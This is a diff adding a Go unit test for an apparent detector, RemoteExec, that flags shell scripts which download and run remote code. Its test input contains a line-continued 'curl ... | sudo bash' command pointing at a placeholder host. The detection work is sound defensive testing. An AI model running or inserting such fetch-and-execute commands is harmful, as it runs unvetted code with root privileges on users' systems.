@@ -58,3 +58,18 @@ func TestQuotedAndReparsed(t *testing.T) {
 		t.Error("Reparsed")
 	}
 }
+
+func TestRemoteExecContinuedLines(t *testing.T) {
+	src := "set -e\ncurl -fsSL https://x.example/i.sh \\\n  | sudo bash -s -- --yes\necho done \\\\\n| sh\n"
+	got := RemoteExec(src)
+	if len(got) != 1 {
+		t.Fatalf("RemoteExec = %+v, want one span", got)
+	}
+	sp := got[0]
+	if src[sp.Start:sp.End] != "curl -fsSL https://x.example/i.sh" {
+		t.Errorf("span text %q", src[sp.Start:sp.End])
+	}
+	if sp.Command != "curl -fsSL https://x.example/i.sh | sudo bash" {
+		t.Errorf("command %q", sp.Command)
+	}
+}
